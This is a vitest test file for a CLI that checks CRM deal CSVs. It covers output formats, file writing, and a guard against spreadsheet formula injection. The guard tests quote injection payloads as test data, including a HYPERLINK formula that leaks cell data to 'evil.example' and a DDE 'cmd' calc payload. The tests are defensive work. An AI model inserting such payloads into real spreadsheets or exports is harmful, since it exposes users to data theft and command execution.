import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { listDir, makeTempDir, removeTempDir, runCli } from '../support/run-cli.js'

let tmp: string
beforeEach(() => {
  tmp = makeTempDir()
})
afterEach(() => {
  removeTempDir(tmp)
})

/** Two open deals of the German file are past their close date on 2026-01-15: lines 2 and 4. */
const GERMAN = ['check', 'german/deals-de.csv', '--as-of', '2026-01-15']
const DE1 = "open deal's close date 2025-12-31 is 15 days before the as-of date 2026-01-15"
const DE3 = "open deal's close date 2025-06-30 is 199 days before the as-of date 2026-01-15"
const GERMAN_CSV = [
  'severity,rule,file,line,entity,record_id,message',
  `warning,open-deal-past-close-date,german/deals-de.csv,2,deal,DE-1,${DE1}`,
  `warning,open-deal-past-close-date,german/deals-de.csv,4,deal,DE-3,${DE3}`,
  '',
].join('\n')
const GERMAN_OBJECTS = [
  {
    severity: 'warning',
    rule: 'open-deal-past-close-date',
    file: 'german/deals-de.csv',
    line: 2,
    entity: 'deal',
    record_id: 'DE-1',
    message: DE1,
  },
  {
    severity: 'warning',
    rule: 'open-deal-past-close-date',
    file: 'german/deals-de.csv',
    line: 4,
    entity: 'deal',
    record_id: 'DE-3',
    message: DE3,
  },
]

describe('output formats', () => {
  it('writes csv when stdout is piped and no --format is given', () => {
    const { exitCode, stdout } = runCli(GERMAN)
    expect(exitCode).toBe(0)
    expect(stdout).toBe(GERMAN_CSV)
  })

  it('writes csv with --format csv', () => {
    expect(runCli([...GERMAN, '--format', 'csv']).stdout).toBe(GERMAN_CSV)
  })

  it('writes tab-separated values with --format tsv', () => {
    expect(runCli([...GERMAN, '--format', 'tsv']).stdout).toBe(GERMAN_CSV.replaceAll(',', '\t'))
  })

  it('writes a JSON array with snake_case keys and numeric lines with --format json', () => {
    const { exitCode, stdout } = runCli([...GERMAN, '--format', 'json'])
    expect(exitCode).toBe(0)
    expect(stdout).toBe(`${JSON.stringify(GERMAN_OBJECTS, null, 2)}\n`)
  })

  it('writes one JSON object per line with --format ndjson', () => {
    const { exitCode, stdout } = runCli([...GERMAN, '--format', 'ndjson'])
    expect(exitCode).toBe(0)
    expect(stdout).toBe(GERMAN_OBJECTS.map((o) => `${JSON.stringify(o)}\n`).join(''))
  })

  it('writes a markdown table with a right-aligned line column with --format markdown', () => {
    const { exitCode, stdout } = runCli([...GERMAN, '--format', 'markdown'])
    expect(exitCode).toBe(0)
    expect(stdout).toBe(
      [
        '| Severity | Rule | File | Line | Kind | Record | Message |',
        '| --- | --- | --- | ---: | --- | --- | --- |',
        `| warning | open-deal-past-close-date | german/deals-de.csv | 2 | deal | DE-1 | ${DE1} |`,
        `| warning | open-deal-past-close-date | german/deals-de.csv | 4 | deal | DE-3 | ${DE3} |`,
        '',
      ].join('\n'),
    )
  })

  it('writes a table without colour codes with --format table and NO_COLOR', () => {
    const { exitCode, stdout } = runCli([...GERMAN, '--format', 'table'])
    expect(exitCode).toBe(0)
    expect(stdout).toContain('Severity')
    expect(stdout).toContain('DE-3')
    expect(stdout).not.toContain('\u001b[')
  })

  it('keeps diagnostics off stdout: the summary goes to stderr', () => {
    const { stdout, stderr } = runCli([...GERMAN, '--format', 'csv'])
    expect(stdout).not.toContain('checked')
    expect(stderr).toContain('0 errors, 2 warnings, 0 notes')
  })
})

describe('spreadsheet formula guard', () => {
  const INJECTION = ['check', 'injection/deals-formula.csv', '--as-of', '2025-12-31']

  function recordIds(stdout: string, delimiter: string): string[] {
    return stdout
      .trimEnd()
      .split('\n')
      .slice(1)
      .filter((l) => l.includes('open-deal-past-close-date'))
      .map((l) => (delimiter === '\t' ? (l.split('\t')[5] ?? '') : l))
  }

  it('prefixes text cells that start with = + - @ with an apostrophe in csv output', () => {
    const { exitCode, stdout } = runCli([...INJECTION, '--format', 'csv'])
    expect(exitCode).toBe(0)
    expect(stdout).toContain(`,2,deal,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`)
    expect(stdout).toContain(`,3,deal,'+cmd|'/C calc'!A0,`)
    expect(stdout).toContain(`,4,deal,'@SUM(1),`)
    expect(stdout).toContain(`,5,deal,'-2+3,`)
    expect(stdout).toContain(`,6,deal,F-5,`)
  })

  it('never alters numbers: the line column stays a plain number', () => {
    const { stdout } = runCli([...INJECTION, '--format', 'csv'])
    const lines = stdout
      .trimEnd()
      .split('\n')
      .slice(1)
      .map((l) => l.split(',')[3])
    expect(new Set(lines)).toEqual(new Set(['2', '3', '4', '5', '6']))
  })

  it('prefixes the same cells in tsv output', () => {
    const { stdout } = runCli([...INJECTION, '--format', 'tsv'])
    expect(recordIds(stdout, '\t')).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`, // quoted: it holds quotes
      `'+cmd|'/C calc'!A0`,
      `'@SUM(1)`,
      `'-2+3`,
      'F-5',
    ])
  })

  it('leaves the cells as they are with --no-csv-guard', () => {
    const { exitCode, stdout } = runCli([...INJECTION, '--format', 'csv', '--no-csv-guard'])
    expect(exitCode).toBe(0)
    expect(stdout).toContain(`,2,deal,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`)
    expect(stdout).toContain(`,3,deal,+cmd|'/C calc'!A0,`)
    expect(stdout).toContain(`,4,deal,@SUM(1),`)
    expect(stdout).toContain(`,5,deal,-2+3,`)
    expect(stdout).not.toContain(`'`.concat('@SUM'))
  })

  it('guards headers in the inspect mapping csv too, and not with --no-csv-guard', () => {
    const guarded = runCli(['inspect', 'injection/deals-formula.csv', '--format', 'csv'])
    expect(guarded.exitCode).toBe(0)
    expect(guarded.stdout).toContain("\ninjection/deals-formula.csv,'@Notes,,,,unmapped\n")
    const raw = runCli(['inspect', 'injection/deals-formula.csv', '--format', 'csv', '--no-csv-guard'])
    expect(raw.stdout).toContain('\ninjection/deals-formula.csv,@Notes,,,,unmapped\n')
  })

  it('does not guard JSON, which no spreadsheet evaluates', () => {
    const { stdout } = runCli([...INJECTION, '--format', 'json'])
    const ids = (JSON.parse(stdout) as { record_id: string }[]).map((f) => f.record_id)
    expect(ids).toContain('@SUM(1)')
    expect(ids).toContain('-2+3')
  })
})

describe('--out', () => {
  it('writes the data to the file, nothing to stdout, and leaves no temp file behind', () => {
    const out = join(tmp, 'findings.csv')
    const { exitCode, stdout } = runCli([...GERMAN, '-o', out])
    expect(exitCode).toBe(0)
    expect(stdout).toBe('')
    expect(readFileSync(out, 'utf8')).toBe(GERMAN_CSV)
    expect(listDir(tmp)).toEqual(['findings.csv'])
  })

  it.each([
    ['findings.json', `${JSON.stringify(GERMAN_OBJECTS, null, 2)}\n`],
    ['findings.ndjson', GERMAN_OBJECTS.map((o) => `${JSON.stringify(o)}\n`).join('')],
    ['findings.tsv', GERMAN_CSV.replaceAll(',', '\t')],
  ])('takes the format from the extension of %s', (name, expected) => {
    const out = join(tmp, name)
    expect(runCli([...GERMAN, '--out', out]).exitCode).toBe(0)
    expect(readFileSync(out, 'utf8')).toBe(expected)
  })

  it('replaces an existing output file', () => {
    const out = join(tmp, 'findings.csv')
    writeFileSync(out, 'old,content\n')
    expect(runCli([...GERMAN, '-o', out]).exitCode).toBe(0)
    expect(readFileSync(out, 'utf8')).toBe(GERMAN_CSV)
    expect(listDir(tmp)).toEqual(['findings.csv'])
  })

  it('leaves an existing output file intact when the command fails', () => {
    const out = join(tmp, 'existing.csv')
    writeFileSync(out, 'old,content\n')
    const { exitCode, stdout } = runCli(['check', 'broken-csv/unclosed-quote.csv', '-o', out])
    expect(exitCode).toBe(3)
    expect(stdout).toBe('')
    expect(readFileSync(out, 'utf8')).toBe('old,content\n')
    expect(listDir(tmp)).toEqual(['existing.csv'])
  })

  it('leaves no rejects temp file behind when the command fails', () => {
    const rejects = join(tmp, 'rejects.csv')
    const { exitCode } = runCli([
      'check',
      'broken-csv/unclosed-quote.csv',
      '--skip-invalid',
      '--rejects',
      rejects,
    ])
    expect(exitCode).toBe(3)
    expect(listDir(tmp)).toEqual([])
  })

  it('leaves no rejects temp file behind with inspect --skip-invalid --rejects', () => {
    const rejects = join(tmp, 'rejects.csv')
    const { exitCode } = runCli([
      'inspect',
      'broken-rows/deals-3-bad.csv',
      '--skip-invalid',
      '--rejects',
      rejects,
      '--format',
      'json',
    ])
    expect(exitCode).toBe(0)
    expect(listDir(tmp).filter((name) => name.endsWith('.tmp'))).toEqual([])
  })
})
